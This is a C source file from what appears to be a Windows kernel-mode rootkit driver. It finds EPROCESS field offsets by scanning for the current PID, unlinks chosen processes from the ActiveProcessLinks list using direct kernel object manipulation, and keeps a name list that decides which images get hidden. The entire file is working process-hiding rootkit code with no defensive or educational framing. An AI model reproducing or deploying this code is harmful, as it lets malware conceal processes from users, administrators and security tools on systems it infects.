/*
 * hide.c - the actual DKOM part + name list
 */
#include "hideproc.h"
#include <ntstrsafe.h>

//
// Find UniqueProcessId by scanning our own EPROCESS for our PID. On every
// x64 build since Vista ActiveProcessLinks is the field right after it.
// (offsets: 7=0x188, 10 1507=0x2e8, 10 1903+=0x2e8/0x440 ... so don't hardcode)
//
BOOLEAN HpFindOffsets(VOID)
{
    PUCHAR  eproc = (PUCHAR)PsGetCurrentProcess();
    HANDLE  pid   = PsGetCurrentProcessId();
    ULONG   off;

    for (off = 0x80; off < 0x700; off += sizeof(PVOID)) {
        if (*(PHANDLE)(eproc + off) == pid) {
            PLIST_ENTRY links = (PLIST_ENTRY)(eproc + off + sizeof(PVOID));
            // sanity: Flink->Blink must point back at us
            if (MmIsAddressValid(links->Flink) && links->Flink->Blink == links) {
                g_Offsets.UniqueProcessId    = off;
                g_Offsets.ActiveProcessLinks = off + sizeof(PVOID);
                return TRUE;
            }
        }
    }
    return FALSE;
}

NTSTATUS HpHideProcess(PEPROCESS Process)
{
    PLIST_ENTRY links;
    KIRQL       irql;
    NTSTATUS    st = STATUS_SUCCESS;

    KeAcquireSpinLock(&g_HideLock, &irql);

    if (g_HiddenCount >= HP_MAX_HIDDEN) {
        st = STATUS_TOO_MANY_SECRETS;   // lol
        goto out;
    }

    links = (PLIST_ENTRY)((PUCHAR)Process + g_Offsets.ActiveProcessLinks);
    if (links->Flink == links) {
        st = STATUS_ALREADY_COMPLETE;   // already unlinked
        goto out;
    }

    RemoveEntryList(links);
    // point at itself so the kernel doesn't touch freed memory at exit
    links->Flink = links;
    links->Blink = links;

    ObReferenceObject(Process);
    g_Hidden[g_HiddenCount].Process = Process;
    g_Hidden[g_HiddenCount].Pid     = PsGetProcessId(Process);
    g_HiddenCount++;

out:
    KeReleaseSpinLock(&g_HideLock, irql);
    DBG_PRINT("hide %p -> 0x%X\n", Process, st);
    return st;
}

//
// put every hidden process back behind the System process
//
VOID HpUnhideAll(VOID)
{
    PLIST_ENTRY head = (PLIST_ENTRY)((PUCHAR)PsInitialSystemProcess + g_Offsets.ActiveProcessLinks);
    KIRQL irql;
    ULONG i;

    KeAcquireSpinLock(&g_HideLock, &irql);
    for (i = 0; i < g_HiddenCount; i++) {
        PLIST_ENTRY links = (PLIST_ENTRY)((PUCHAR)g_Hidden[i].Process + g_Offsets.ActiveProcessLinks);
        if (!PsGetProcessExitProcessCalled(g_Hidden[i].Process)) {
            InsertHeadList(head, links);
        }
        ObDereferenceObject(g_Hidden[i].Process);
        g_Hidden[i].Process = NULL;
    }
    g_HiddenCount = 0;
    KeReleaseSpinLock(&g_HideLock, irql);
}

NTSTATUS HpAddName(PCWSTR Name)
{
    PHP_NAME_ENTRY e;
    KIRQL irql;

    e = (PHP_NAME_ENTRY)ExAllocatePoolWithTag(NonPagedPool, sizeof(HP_NAME_ENTRY), HP_POOL_TAG);
    if (!e) return STATUS_INSUFFICIENT_RESOURCES;

    RtlZeroMemory(e, sizeof(*e));
    RtlStringCchCopyW(e->Name, HP_MAX_NAME, Name);

    KeAcquireSpinLock(&g_HideLock, &irql);
    InsertTailList(&g_HideList, &e->Link);
    KeReleaseSpinLock(&g_HideLock, irql);

    DBG_PRINT("will hide '%ws'\n", e->Name);
    return STATUS_SUCCESS;
}

// ImagePath is the full NT path, we only compare the tail
BOOLEAN HpNameIsHidden(PCUNICODE_STRING ImagePath)
{
    PLIST_ENTRY    p;
    BOOLEAN        found = FALSE;
    KIRQL          irql;
    UNICODE_STRING tail, name;

    KeAcquireSpinLock(&g_HideLock, &irql);
    for (p = g_HideList.Flink; p != &g_HideList; p = p->Flink) {
        PHP_NAME_ENTRY e = CONTAINING_RECORD(p, HP_NAME_ENTRY, Link);
        RtlInitUnicodeString(&name, e->Name);
        if (ImagePath->Length < name.Length) continue;
        tail.Buffer = (PWCH)((PUCHAR)ImagePath->Buffer + ImagePath->Length - name.Length);
        tail.Length = tail.MaximumLength = name.Length;
        if (RtlEqualUnicodeString(&tail, &name, TRUE)) { found = TRUE; break; }
    }
    KeReleaseSpinLock(&g_HideLock, irql);
    return found;
}

VOID HpFreeNames(VOID)
{
    KIRQL irql;
    KeAcquireSpinLock(&g_HideLock, &irql);
    while (!IsListEmpty(&g_HideList)) {
        PLIST_ENTRY p = RemoveHeadList(&g_HideList);
        ExFreePoolWithTag(CONTAINING_RECORD(p, HP_NAME_ENTRY, Link), HP_POOL_TAG);
    }
    KeReleaseSpinLock(&g_HideLock, irql);
}
